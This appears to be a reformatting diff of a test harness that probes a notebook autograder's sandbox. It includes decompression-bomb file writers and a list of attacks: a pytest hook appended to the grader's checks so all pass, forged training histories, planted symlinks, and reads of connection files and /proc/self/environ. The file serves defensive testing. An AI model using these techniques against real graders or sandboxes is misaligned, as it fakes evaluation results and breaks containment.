             for key, shape in ((f"image{i}", ((BOMB_MIB << 20) // 12, 3)), (f"mask{i}", (1, 1, 1))):
                 with bomb.open(f"{key}.npy", "w") as member:
-                    np.lib.format.write_array_header_1_0(member, {"descr": "<f4", "fortran_order": False, "shape": shape})
+                    np.lib.format.write_array_header_1_0(
+                        member, {"descr": "<f4", "fortran_order": False, "shape": shape}
+                    )
                     zeros = b"\0" * (1 << 20)
                     for _ in range(shape[0] * shape[1] * 4 >> 20):
                         member.write(zeros)
@@ -948,7 +1186,10 @@ def _bomb_hook():
 '''
 
 _BOMBS_KERNEL = r"""
-_attempt("write a padded trained.keras", lambda: _padded_trained_keras(os.path.join(os.path.dirname(os.getcwd()), "out", "trained.keras")))
+_attempt(
+    "write a padded trained.keras",
+    lambda: _padded_trained_keras(os.path.join(os.path.dirname(os.getcwd()), "out", "trained.keras")),
+)
 """
 
 
@@ -1045,10 +1286,12 @@ def _check_userns(folder: Path, _context: Context) -> list[str]:
 
 
 def _check_bombs(folder: Path, _context: Context) -> list[str]:
-    found, problems = facts(folder), []
+    found = facts(folder)
+    problems = []
     if found.get("preprocess", {}).get("call", {}).get("ok"):
         problems.append(
-            "the grader unpacked preprocess.npz (an array of 64 MiB zeros in a file of a few hundred kB) instead of refusing it"
+            "the grader unpacked preprocess.npz (an array of 64 MiB zeros in a file of a few hundred kB) "
+            "instead of refusing it"
         )
     if found.get("training", {}).get("model") is not None:
         problems.append("the grader loaded trained.keras whose config.json unpacks to 64 MiB instead of refusing it")
@@ -1160,7 +1403,8 @@ def _check_client_crash(folder: Path, _context: Context) -> list[str]:
 ATTACKS = [
     Attack(
         "why1_checks_append",
-        "append to the grader's autograder/checks/*.py (a pytest hook passing every check), from a cell and at definition time",
+        "append to the grader's autograder/checks/*.py (a pytest hook passing every check), from a cell and at "
+        "definition time",
         "release",
         [("apply_config", _CHECKS)],
         why="appending lines to autograder/checks/*.py",
@@ -1202,8 +1446,8 @@ ATTACKS = [
     ),
     Attack(
         "why6_kernel_reach",
-        "reach the 127.0.0.1 listener, read other kernels' connection files, start 150 processes, write 3 GiB into OUT, "
-        "/tmp and the scratch folder",
+        "reach the 127.0.0.1 listener, read other kernels' connection files, start 150 processes, "
+        "write 3 GiB into OUT, /tmp and the scratch folder",
         "release",
         [("apply_config", _REACH), ("apply_config", _REACH_KERNEL)],
         why="the kernel reached a listener, read connection files, wrote 3 GiB into OUT and started 150 processes",
@@ -1241,7 +1485,8 @@ ATTACKS = [
     Attack(
         "fake_configs_non_keras",
         "a trained model with a layer from the notebook's own module; probe configs (written at exit) naming "
-        "keras.config.enable_unsafe_deserialization, TFSMLayer, a StringLookup reading /proc/self/environ, keras.utils.get_file",
+        "keras.config.enable_unsafe_deserialization, TFSMLayer, a StringLookup reading /proc/self/environ, "
+        "keras.utils.get_file",
         "release",
         [("apply_config", _FAKE_MODEL + _FORGED_PROBE_CONFIGS), ("end", _CUSTOM_MODULE_MODEL)],
         check=_check_hostile_configs,
@@ -1249,8 +1494,8 @@ ATTACKS = [
     ),
     Attack(
         "forged_training",
-        "a one-layer model compiled with SGD and mse, never fitted, with the optimizer's steps set to what EPOCHS epochs "
-        "take and a history whose val_loss is the grader's own test loss",
+        "a one-layer model compiled with SGD and mse, never fitted, with the optimizer's steps set to what EPOCHS "
+        "epochs take and a history whose val_loss is the grader's own test loss",
         "release",
         [("apply_config", _FAKE_MODEL), ("end", _FORGED_TRAINING)],
         order=20,
@@ -1258,7 +1503,8 @@ ATTACKS = [
     Attack(
         "symlinks_planted",
         "the kernel's and the probe's export folders replaced by symlinks to a folder outside the sandbox holding a "
-        "planted history; connection-file names linked to the grader's conftest; the kernel killed so the grader writes k1.json",
+        "planted history; connection-file names linked to the grader's conftest; the kernel killed so the grader "
+        "writes k1.json",
         "release",
         [("apply_config", _SYMLINKS + _SYMLINKS_KERNEL), ("apply_config", _RESTART_KERNEL)],
         check=_check_planted,
